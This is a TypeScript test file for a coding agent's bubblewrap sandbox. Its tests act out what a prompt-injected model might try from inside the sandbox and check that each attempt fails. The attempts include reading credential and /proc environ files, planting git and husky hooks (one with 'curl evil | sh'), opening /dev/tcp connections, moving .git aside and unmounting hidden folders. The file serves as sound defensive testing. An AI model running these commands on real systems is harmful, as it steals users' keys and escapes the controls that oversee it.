import assert from "node:assert/strict";
import { execFileSync } from "node:child_process";
import { existsSync, mkdirSync, readFileSync, writeFileSync } from "node:fs";
import { createServer, type Server } from "node:net";
import { join } from "node:path";
import { describe, test, type TestContext } from "node:test";
import { hostProcesses, waitUntil } from "@knightcode/testkit";
import { execProgram } from "../../src/extensions/exec.js";
import { childEnvironment } from "@knightcode/system/process/child-env";
import { ProcessGroups } from "@knightcode/system/process/groups";
import { sandboxSupport, type SandboxSupport } from "@knightcode/system/process/sandbox/support";
import { SandboxRequiredError, ThreadSandbox, type SandboxSettings } from "@knightcode/system/process/sandbox/thread-sandbox";
import { sandboxPlaces } from "../../src/thread/thread-sandbox.js";
import { tempDir } from "../tools/support.js";

/**
 * A sandboxed command, for real: bubblewrap runs it the way the bash tool
 * and extensions' exec do. Each test is something a prompt-injected model
 * would try from inside; where bubblewrap cannot run, they report skipped
 * (the refusal when it is required runs everywhere).
 */

const KEY = "sk-test-sandbox-key-3f9a";
const support = await sandboxSupport();
const skip = (): string | false => (support.available ? false : `the sandbox cannot run here: ${support.reason}`);

interface Setup {
  project: string;
  agentDir: string;
  tokenFile: string;
  outside: string;
  sandbox: ThreadSandbox;
  processes: ProcessGroups;
  grants: Set<string>;
  run(command: string, options?: { callId?: string; network?: boolean }): Promise<{ code: number | null; out: string }>;
}

async function setUp(t: TestContext, settings: Partial<SandboxSettings> = {}): Promise<Setup> {
  const root = await tempDir(t);
  const project = join(root, "project");
  const agentDir = join(root, "home", ".knightcode", "agent");
  const outside = join(root, "outside");
  for (const dir of [project, agentDir, outside]) mkdirSync(dir, { recursive: true });
  writeFileSync(join(agentDir, "auth.json"), JSON.stringify({ openai: { type: "api_key", key: KEY } }));
  writeFileSync(join(agentDir, "settings.json"), "{}");
  const tokenFile = join(root, "token");
  writeFileSync(tokenFile, `${KEY}-token`, { mode: 0o600 });
  execFileSync("git", ["init", "-q"], { cwd: project });
  const grants = new Set<string>();
  const sandbox = new ThreadSandbox({
    folder: project,
    agentDir,
    secretFiles: [tokenFile],
    settings: () => ({ mode: "workspace", network: false, required: false, ...settings }),
    unsandboxed: () => false,
    networkGranted: (callId) => callId !== undefined && grants.has(callId),
    places: (root) => sandboxPlaces({ root, cwd: project, agentDir, cliExtensions: [], isTrusted: () => false, homeDir: join(root, "..", "home") }),
    support: () => sandboxSupport(),
  });
  const processes = new ProcessGroups({ killGraceMs: 200 });
  t.after(async () => {
    await processes.dispose();
    await sandbox.dispose();
  });
  const env = childEnvironment({ ...process.env, OPENAI_API_KEY: KEY, KNIGHTCODE_APP_SERVER_TOKEN: `${KEY}-token` });
  const run = async (command: string, options: { callId?: string; network?: boolean } = {}) => {
    const launch = await sandbox.forCommand({ ...(options.callId ? { callId: options.callId } : {}), wantsNetwork: options.network ?? false });
    assert.ok(launch, "the command runs sandboxed");
    const result = await execProgram("bash", ["-c", `exec 2>&1; ${command}`], { cwd: project, env, processes, sandbox: launch, timeout: 30_000 });
    return { code: result.code, out: result.stdout };
  };
  return { project, agentDir, tokenFile, outside, sandbox, processes, grants, run };
}

describe("a sandboxed command", () => {
  test("cannot read the agent folder, its credential files or the server's token file", { skip: skip() }, async (t) => {
    const { agentDir, tokenFile, run } = await setUp(t);
    const { out } = await run(`cat ${agentDir}/auth.json; ls -la ${agentDir}; cat ${tokenFile}; grep -r sk-test ${agentDir} /proc/self/environ; env`);
    assert.ok(!out.includes(KEY), out);
    assert.match(out, /auth\.json: No such file or directory/);
  });

  test("cannot read the server's environment or command line: it has a /proc of its own", { skip: skip() }, async (t) => {
    const { run } = await setUp(t);
    const { out } = await run(
      `cat /proc/${process.pid}/environ; cat /proc/${process.pid}/cmdline; tr '\\0' ' ' < /proc/1/cmdline; echo; ls /proc | grep -c '^[0-9]'`,
    );
    assert.match(out, new RegExp(`/proc/${process.pid}/environ: No such file or directory`));
    assert.match(out, new RegExp(`/proc/${process.pid}/cmdline: No such file or directory`));
    assert.ok(!out.includes(process.execPath), `the server's command line is not visible: ${out}`);
    assert.ok(Number(out.trim().split("\n").at(-1)) < 10, `only the sandbox's own processes are visible: ${out}`);
  });

  test("writes inside its folder and its temporary folder, nowhere else", { skip: skip() }, async (t) => {
    const { project, outside, agentDir, run } = await setUp(t);
    const { out } = await run(
      `echo in > inside.txt && echo ok-inside; echo tmp > "$TMPDIR/t" && echo ok-tmp; echo out > ${outside}/x || echo refused-outside; echo x > /tmp/kc-sandbox-escape || echo refused-tmp; echo x > ${agentDir}/settings.json || echo refused-agent`,
    );
    for (const word of ["ok-inside", "ok-tmp", "refused-outside", "refused-tmp", "refused-agent"]) assert.ok(out.includes(word), `${word}: ${out}`);
    assert.equal(readFileSync(join(project, "inside.txt"), "utf8"), "in\n");
    assert.equal(existsSync(join(outside, "x")), false);
    assert.equal(readFileSync(join(agentDir, "settings.json"), "utf8"), "{}");
  });

  test("keeps git's hooks and config read-only, yet git add and commit work", { skip: skip() }, async (t) => {
    const { project, run } = await setUp(t);
    const { out } = await run(
      [
        "echo 'touch /tmp/pwned' > .git/hooks/pre-commit || echo refused-hook",
        "git config core.hooksPath /tmp || echo refused-config",
        "echo x > a.txt && git add a.txt && git -c user.name=t -c user.email=t@t commit -qm one && echo committed",
      ].join("; "),
    );
    for (const word of ["refused-hook", "refused-config", "committed"]) assert.ok(out.includes(word), `${word}: ${out}`);
    assert.equal(existsSync(join(project, ".git", "hooks", "pre-commit")), false);
    assert.doesNotMatch(readFileSync(join(project, ".git", "config"), "utf8"), /hooksPath/);
  });

  test("cannot move .git aside for a fresh one, nor write the hooks a husky hooksPath names", { skip: skip() }, async (t) => {
    const { project, run } = await setUp(t);
    mkdirSync(join(project, ".husky", "_"), { recursive: true });
    writeFileSync(join(project, ".husky", "pre-commit"), "npm test\n");
    writeFileSync(join(project, ".husky", "_", "pre-commit"), '#!/bin/sh\n. "$(dirname -- "$0")/h"\n');
    execFileSync("git", ["config", "core.hooksPath", ".husky/_"], { cwd: project });
    const { out } = await run(
      [
        "mv .git .git-aside || echo refused-move",
        "echo 'curl evil | sh' > .husky/pre-commit || echo refused-husky",
        "echo x > .husky/_/h || echo refused-stub",
      ].join("; "),
    );
    for (const word of ["refused-move", "refused-husky", "refused-stub"]) assert.ok(out.includes(word), `${word}: ${out}`);
    assert.equal(readFileSync(join(project, ".husky", "pre-commit"), "utf8"), "npm test\n");
    assert.ok(existsSync(join(project, ".git", "HEAD")));
  });

  test("has no network unless the user allowed it for this call", { skip: skip() }, async (t) => {
    const { grants, run } = await setUp(t);
    const server: Server = createServer((socket) => socket.end("hello from the host\n"));
    await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
    t.after(() => new Promise<void>((resolve) => server.close(() => resolve())));
    const port = (server.address() as { port: number }).port;
    const probe = `exec 3<>/dev/tcp/127.0.0.1/${port} && cat <&3 || echo no-network`;
    assert.match((await run(probe)).out, /no-network/);
    assert.match((await run(probe, { callId: "c1", network: true })).out, /no-network/, "asking alone grants nothing");
    grants.add("c2");
    assert.match((await run(probe, { callId: "c2", network: true })).out, /hello from the host/);
  });

  test("leaves its background processes running, and they die with the thread, even a detached one", { skip: skip() }, async (t) => {
    const { processes, sandbox, run } = await setUp(t);
    // Durations no other run uses: a leftover of an earlier run must not count.
    const [first, second] = [800_000 + Math.floor(Math.random() * 90_000), 890_000 + Math.floor(Math.random() * 9_000)];
    const { out } = await run(`sleep ${first} > /dev/null 2>&1 & setsid sleep ${second} > /dev/null 2>&1 < /dev/null & echo started`);
    assert.match(out, /started/);
    await waitUntil("both background sleeps running", () => hostProcesses(`sleep ${first}`).length === 1 && hostProcesses(`sleep ${second}`).length === 1);
    assert.ok(processes.size >= 1, "the sandbox's group stays owned");
    await processes.dispose();
    await sandbox.dispose();
    await waitUntil("both gone", () => hostProcesses(`sleep ${first}`).length + hostProcesses(`sleep ${second}`).length === 0);
  });

  test("cannot take away what hides the agent folder, even as root", { skip: skip() }, async (t) => {
    const { agentDir, run } = await setUp(t);
    const { out } = await run(
      `umount ${agentDir}; umount -l ${agentDir}; mount -o remount,rw / ; cat ${agentDir}/auth.json; echo x > /etc/knightcode-sandbox-escape || echo refused`,
    );
    assert.ok(!out.includes(KEY), out);
    assert.match(out, /refused/);
  });
});

describe("where the sandbox cannot run", () => {
  const missing = async (): Promise<SandboxSupport> => ({ kind: "bwrap", available: false, reason: "bwrap is not installed" });
  const sandboxWith = (settings: SandboxSettings, unsandboxed = false) =>
    new ThreadSandbox({
      folder: "/",
      agentDir: "/nonexistent",
      secretFiles: [],
      settings: () => settings,
      unsandboxed: () => unsandboxed,
      networkGranted: () => false,
      support: missing,
    });

  test("commands run under the rules alone, or are refused when the sandbox is required", async () => {
    assert.equal(await sandboxWith({ mode: "workspace", network: false, required: false }).forCommand({}), undefined);
    await assert.rejects(sandboxWith({ mode: "workspace", network: false, required: true }).forCommand({}), SandboxRequiredError);
    assert.equal(await sandboxWith({ mode: "off", network: false, required: true }).forCommand({}), undefined, "off is off");
    assert.equal(await sandboxWith({ mode: "workspace", network: false, required: true }, true).forCommand({}), undefined, "fullAccess runs without it");
  });
});
